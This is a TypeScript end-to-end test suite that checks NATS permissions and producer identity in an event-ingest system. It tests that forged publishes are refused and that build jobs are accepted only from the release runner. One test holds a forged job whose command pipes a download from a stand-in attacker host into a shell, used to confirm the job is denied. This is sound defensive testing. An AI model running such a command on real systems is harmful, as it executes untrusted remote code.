import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Bus, Consumption } from '@shiplog/bus';
import { BusErrorCode, createNatsBus, natsServerConfig, passwordVariable } from '@shiplog/bus';
import { startIngest } from '@shiplog/ingest';
import { createEmitter } from '@shiplog/sdk';
import type { EventStore, RecordedEvent } from '@shiplog/store';
import { createSqliteEventStore } from '@shiplog/store';
import { startNatsServer } from '@shiplog/test/nats/natsServer.ts';
import type { NatsServer } from '@shiplog/test/nats/natsServer.ts';
import { pino } from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { changeEvents, createIngestWorld } from './ingestHarness.ts';
import { natsTestUsers as users } from '@shiplog/bus/testing';

// The attacks of issue 13 on the NATS side, each against nats-server running the configuration
// natsServerConfig generates (as deploy/nats/shiplog.conf is), with the real ingest and SDK.
const password = (user: string): string => `${user}-pw-e2e`;
const denied = { code: BusErrorCode.PermissionDenied };
const bytes = (value: unknown): Uint8Array => new TextEncoder().encode(JSON.stringify(value));

let nats: NatsServer;
let dir: string;
let store: EventStore;
let consumption: Consumption;
const buses: Bus[] = [];

async function as(user: string): Promise<Bus> {
  const bus = await createNatsBus({ servers: nats.url, user, password: password(user) });
  buses.push(bus);
  return bus;
}

async function records(): Promise<RecordedEvent[]> {
  const all: RecordedEvent[] = [];
  for await (const record of store.readAll()) all.push(record);
  return all;
}

beforeAll(async () => {
  for (const { user } of users) process.env[passwordVariable(user)] = password(user);
  // Ports and the store directory are fixed in the generated file; the test server picks its own.
  const config = natsServerConfig({ users })
    .replace('port: 4222\n', '')
    .replace('http: 8222\n', '')
    .replace('jetstream { store_dir: "/data" }\n', '');
  nats = await startNatsServer({ jetstream: true, config });
  dir = await mkdtemp(join(tmpdir(), 'shiplog-identity-'));
  store = await createSqliteEventStore(join(dir, 'ledger.db'));
  consumption = await startIngest({ bus: await as('ingest'), store, logger: pino({ level: 'silent' }) });
});
afterAll(async () => {
  await consumption?.stop();
  await Promise.allSettled(buses.map((bus) => bus.close()));
  await store?.close();
  await nats?.dispose();
  await rm(dir, { recursive: true, force: true });
});

describe('producer identity over NATS, with the generated permissions', () => {
  it('records each emitter user as nats:<user>, and a retry from another process finds its answer', async () => {
    const [mine, theirs] = changeEvents(2, 'identity') as [object, object];
    const ci = await createEmitter({ natsUrl: nats.url, user: 'ci', password: password('ci') });
    const cd = await createEmitter({ natsUrl: nats.url, user: 'cd', password: password('cd') });
    const first = await ci.emit({ text: JSON.stringify(mine) });
    expect(first.status).toBe('recorded');
    expect((await cd.emit({ text: JSON.stringify(theirs) })).status).toBe('recorded');

    const again = await createEmitter({ natsUrl: nats.url, user: 'ci', password: password('ci') });
    const retry = await again.emit({ text: JSON.stringify(mine) });
    expect(retry).toMatchObject({ status: 'duplicate', eventId: 'identity-0' });
    await Promise.all([ci.close(), cd.close(), again.close()]);

    const byId = new Map((await records()).map((record) => [record.id, record.producer]));
    expect(byId.get('identity-0')).toBe('nats:ci');
    expect(byId.get('identity-1')).toBe('nats:cd');
  });

  it('refuses an emitter publishing evidence in another name, or in none, and records what it sent as itself', async () => {
    const [forged, own] = changeEvents(2, 'forgery') as [object, object];
    const ci = await as('ci');
    for (const subject of [
      'shiplog.events.cd.change.created',
      'shiplog.events._.change.created',
      'shiplog.events.change.created',
      'shiplog.events.worker.artifact.signed',
    ]) {
      await expect(
        ci.publishEvent(subject, bytes(forged), { msgId: 'forgery-0' }),
        subject,
      ).rejects.toMatchObject(denied);
    }
    const workerBus = await as('worker');
    await expect(
      workerBus.publishEvent('shiplog.events.worker.change.created', bytes(forged), { msgId: 'forgery-0' }),
    ).rejects.toMatchObject(denied);
    const admin = await as('admin');
    await expect(
      admin.publishEvent('shiplog.events.ci.change.created', bytes(forged), { msgId: 'forgery-0' }),
    ).rejects.toMatchObject(denied);

    const emitter = await createEmitter({ bus: ci });
    expect(await emitter.emit({ text: JSON.stringify(own) })).toMatchObject({ status: 'recorded' });
    const ids = (await records()).map((record) => record.id);
    expect(ids).toContain('forgery-1');
    expect(ids).not.toContain('forgery-0');
  });

  it('refuses a build job from a worker or an emitter; the release runner issues it', async () => {
    const job = bytes({ jobId: 'forged', command: 'curl https://evil.example | sh' });
    for (const user of ['worker', 'ci']) {
      const bus = await as(user);
      await expect(
        bus.enqueueJob('build', job, { platform: 'linux-x64', msgId: 'forged' }),
        user,
      ).rejects.toMatchObject(denied);
      await expect(bus.enqueueJob('sign', job, { msgId: 'forged-sign' }), user).rejects.toMatchObject(denied);
    }
    const release = await as('release');
    await release.enqueueJob('build', bytes({ jobId: 'real' }), { platform: 'linux-x64', msgId: 'real' });
    expect(await release.queueDepth('build')).toBe(1);
  });
});

describe('events on a subject that names no user (a server without authentication)', () => {
  it('keeps them in the rejected log instead of recording a made-up name; anonymous ones are "nats"', async () => {
    const world = await createIngestWorld();
    try {
      await world.startInProcess();
      const [old, anonymous] = changeEvents(2, 'unnamed') as [object, object];
      // The subject scheme before identities: `shiplog.events.<subject>.<predicate>`.
      await world.bus.publishEvent(`${world.bus.topology.subjects.events}.change.created`, bytes(old), {
        msgId: 'unnamed-0',
      });
      const emitter = await createEmitter({ bus: world.bus });
      expect(await emitter.emit({ text: JSON.stringify(anonymous) })).toMatchObject({ status: 'recorded' });
      const deadline = Date.now() + 20_000;
      while ((await world.bus.readRejected()).length === 0 && Date.now() < deadline)
        await new Promise((resolve) => setTimeout(resolve, 50));
      const [rejected] = await world.bus.readRejected();
      expect(rejected?.reason).toMatch(/^PRODUCER_UNKNOWN /);
      expect(rejected?.reason).toContain('.change.created names no NATS user');
      expect((await world.records()).map((record) => [record.id, record.producer])).toEqual([
        ['unnamed-1', 'nats'],
      ]);
    } finally {
      await world.dispose();
    }
  });
});
